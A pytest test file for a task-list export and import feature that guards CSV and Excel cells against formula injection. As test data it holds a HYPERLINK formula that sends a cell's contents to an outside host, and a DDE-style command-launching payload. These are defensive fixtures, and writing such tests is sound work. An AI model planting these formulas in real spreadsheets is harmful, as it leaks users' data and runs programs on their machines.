import csv
import io
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from project06.kernel.clock import frozen
from project06.programme.data.tasks import DirectiveKey, TaskFilter
from project06.programme.operations.import_tasks import import_tasks
from project06.programme.queries.export_tasks import empty_task_list, export_tasks_csv, export_tasks_xlsx
from project06.programme.rules.safe_cells import guard, is_formula, unguard
from project06.programme.tests.cast import HOA, NOON, SON, TODAY, TU, a_claimed_task, a_task

EVIL = '=HYPERLINK("http://example.org?x="&A1;"Bấm")'


@pytest.fixture(autouse=True)
def _clock():
    with frozen(NOON):
        yield


def _csv(**changes) -> bytes:
    asked = {"wanted": TaskFilter(), "by": SON, "language": "vi", **changes}
    return "".join(export_tasks_csv(asked.pop("wanted"), **asked)).encode()


@pytest.mark.django_db
def test_says_what_the_table_says() -> None:
    a_claimed_task(due_on=TODAY - timedelta(days=20), co_leads=("SYT-08", "STC-08"))

    text = _csv().decode()
    [told] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))

    assert text.startswith("\ufeffMã nhiệm vụ,")
    assert told["Cơ quan phối hợp"] == "SYT-08; STC-08"
    assert (told["Tiến độ báo cáo"], told["Minh chứng"], told["Theo thời hạn"]) == ("done", "none", "late")
    assert (told["Hạn hoàn thành"], told["Số ngày làm việc còn lại"]) == ("2026-10-29", "-14")


@pytest.mark.django_db
@pytest.mark.parametrize("make", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["vi", "pl"])
def test_can_be_taken_in_again_without_a_change(make, language) -> None:
    a_task("NV-1", directive=DirectiveKey("452/TTg-KSTT", date(2023, 5, 23)), co_leads=("SYT-08",))
    a_task("NV-2", titles={"vi": "- Rà soát (đợt 2)"})
    a_claimed_task("NV-3", titles={"vi": EVIL})

    content = _csv(language=language) if make == "csv" else export_tasks_xlsx(TaskFilter(), by=SON, language=language)
    report = import_tasks(content=content, register="08", write=False, by=SON)

    assert (report.faults, report.unchanged) == ((), 3)


@pytest.mark.django_db
def test_gives_no_office_programme_anything_to_run() -> None:
    a_task(titles={"vi": EVIL})

    assert f',"\'{EVIL.replace(chr(34), chr(34) * 2)}",' in _csv().decode()
    sheet = load_workbook(io.BytesIO(export_tasks_xlsx(TaskFilter(), by=SON, language="vi"))).worksheets[0]
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", "'" + EVIL)


@pytest.mark.django_db
def test_shows_only_what_the_reader_may_read() -> None:
    a_task()

    assert _csv(by=HOA).count(b"\r\n") == 1
    assert _csv(by=TU).count(b"\r\n") == 2


@pytest.mark.django_db
def test_takes_two_statements_a_batch(django_assert_num_queries) -> None:
    for number in range(20):
        a_task(f"NV-{number}", co_leads=("SYT-08",))

    with django_assert_num_queries(2):
        _csv()


@pytest.mark.django_db
@pytest.mark.parametrize(("language", "sheets"), [("vi", ["Nhiệm vụ", "Mã"]), ("uk", ["Tasks", "Codes"])])
def test_offers_an_empty_list_with_the_known_codes(language, sheets) -> None:
    book = load_workbook(io.BytesIO(empty_task_list(language=language)))

    assert book.sheetnames == sheets
    assert book.worksheets[0].max_column == 13
    codes = {row[1].value for row in book.worksheets[1].iter_rows()}
    assert {"project-06", "semiconductor-workforce", "institutions", "month", "in-progress"} <= codes


@given(st.text())
def test_unguards_what_it_guarded(text) -> None:
    guarded = guard(text)

    assert unguard(guarded) == text
    assert not guarded or guarded[0] not in "=+-@\t\r\n|%"


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "-SUM(A1)", "+cmd|' /C calc'!A0", "＝1+1", "- IF(1,2,3)"])
def test_recognises_formulas(text) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", ["", "=", "-", "- Rà soát (đợt 2)", "+84 24 3", "-5", "100 %", "a=b"])
def test_leaves_ordinary_texts_alone(text) -> None:
    assert not is_formula(text)
